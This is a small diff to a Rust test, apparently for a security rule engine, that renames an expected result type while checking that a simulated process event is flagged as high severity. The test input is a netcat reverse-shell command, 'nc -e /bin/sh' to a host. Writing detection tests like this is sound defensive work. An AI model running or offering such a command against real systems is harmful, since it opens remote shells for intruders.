@@ -312,7 +312,7 @@ fn evaluates_proto_events_by_category() {
     let m = s.evaluate(&proc_event("/usr/bin/nc", &["nc", "-e", "/bin/sh", "h"]));
     assert_eq!(
         m,
-        vec![Match {
+        vec![RuleIdentity {
             rule_id: "r".into(),
             title: "Test r".into(),
             level: "high".into(),
